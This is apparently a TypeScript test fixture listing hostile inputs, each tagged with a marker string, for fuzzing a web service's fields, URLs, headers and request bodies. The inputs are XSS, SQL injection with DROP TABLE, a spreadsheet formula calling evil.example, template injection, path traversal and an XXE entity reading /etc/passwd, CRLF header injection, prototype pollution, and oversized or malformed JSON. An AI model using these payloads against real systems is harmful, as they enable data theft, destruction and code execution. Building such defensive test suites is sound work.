/** In every text of ours that must not come back, and must not be logged. */
export const MARK = 'xq7hostilexq7';

/** A name, and a text or a whole JSON value as it is sent. */
export type Hostile = readonly [name: string, sent: string];

const deep = (levels: number): string => `${'['.repeat(levels)}${']'.repeat(levels)}`;

/** What a person, a robot or an attacker types into a field. */
export const texts: readonly Hostile[] = [
  ['a script', `<script>alert("${MARK}")</script>`],
  ['an image that runs', `"><img src=x onerror=alert('${MARK}')>`],
  ['SQL', `${MARK}'; DROP TABLE submissions; --`],
  ['SQL that is always true', `' OR 1=1 /* ${MARK} */`],
  ['a formula', `=HYPERLINK("http://evil.example?${MARK}")`],
  ['a template', `\${7*7}{{constructor.constructor("return process")()}}${MARK}`],
  ['a way up', `../../../../etc/passwd${MARK}`],
  ['marks that turn the direction', `${MARK}\u202e\u2066gpj.exe\u2069`],
  ['a tower of marks', `${MARK}${'\u0301'.repeat(300)}`],
  ['new lines of a header', `${MARK}\r\nset-cookie: a=b\r\n\r\n<html>`],
  ['a word of 10,000 letters', MARK + 'w'.repeat(10_000)],
  ['a name of a prototype', '__proto__'],
  ['nothing', ''],
];

/** What can stand in JSON where a text or a number belongs. */
export const fieldValues: readonly Hostile[] = [
  ...texts.map(([name, text]) => [name, JSON.stringify(text)] as const),
  ['a NUL', `"${MARK}\\u0000"`],
  ['half a character', `"${MARK}\\ud83d"`],
  ['a number beyond all numbers', '1e999'],
  ['a number below zero', '-1'],
  ['a number that is no safe one', '9007199254740993'],
  ['null', 'null'],
  ['true', 'true'],
  ['an object', `{"${MARK}":{"toString":1}}`],
  ['an object with a prototype', `{"__proto__":{"polluted":"${MARK}"}}`],
  ['a constructor', `{"constructor":{"prototype":{"polluted":"${MARK}"}}}`],
  ['lists in lists', deep(19)],
  ['too many lists in lists', deep(40)],
  ['501 entries', `[${`"${MARK}",`.repeat(500)}0]`],
  ['5 MiB', `"${MARK.padEnd(5 * 1_024 * 1_024, 'x')}"`],
];

/** What can stand where a whole body belongs. */
export const wholeBodies: readonly (readonly [name: string, sent: string | Buffer<ArrayBuffer>])[] = [
  ['lists 100,000 deep', deep(100_000)],
  ['objects 30,000 deep', '{"a":'.repeat(30_000)],
  ['2,001 keys', `{${Array.from({ length: 2_001 }, (_, n) => `"${MARK}${n}":1`).join(',')}}`],
  ['null', 'null'],
  ['a list', `["${MARK}"]`],
  ['a text', `"${MARK}"`],
  ['half of JSON', `{"a":"${MARK}`],
  ['XML', `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>${MARK}&b;</a>`],
  ['bytes that are no text', Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d])],
];

/** As they stand in an address: what no text can be encoded to as well. */
export const inAddress: readonly Hostile[] = [
  ...texts.map(([name, text]) => [name, encodeURIComponent(text)] as const),
  ['a NUL', `${MARK}%00`],
  ['half a character', `${MARK}%ED%A0%80`],
  ['no code at all', `${MARK}%zz`],
  ['a slash in disguise', `..%2f..%2f${MARK}`],
];

/** As they can stand in a header: a client cannot send the others. */
export const inHeader: readonly Hostile[] = texts.filter(([, text]) => /^[\x20-\x7e]*$/.test(text));
